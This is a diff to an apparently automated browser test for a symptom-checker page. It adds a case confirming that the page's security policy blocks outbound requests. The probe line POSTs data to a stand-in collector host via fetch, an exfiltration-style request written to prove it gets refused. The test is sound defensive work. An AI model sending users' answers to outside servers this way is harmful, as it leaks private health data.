@@ -191,6 +191,18 @@ try {
   check(t.includes('999'), 'the refusal still shows the emergency number');
   await plain.close();
 
+  // Nothing leaves the device: the page's policy refuses any other server.
+  const probe = await browser.newPage();
+  await probe.goto(url);
+  await probe.waitForFunction(() => document.getElementById('app').innerText.includes('Check a symptom'));
+  const refused = await probe.evaluate(() => new Promise((resolve) => {
+    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
+    fetch('https://collector.example/answers', { method: 'POST', body: 'x' }).catch(() => {});
+    setTimeout(() => resolve('not refused'), 3000);
+  }));
+  check(refused === 'connect-src', `a request to another server is refused by the page's policy (${refused})`);
+  await probe.close();
+
   // A panic would freeze a wasm page: it shows the emergency number, then reloads itself.
   const crash = await browser.newPage();
   await crash.goto(`${url}?test-panic`);
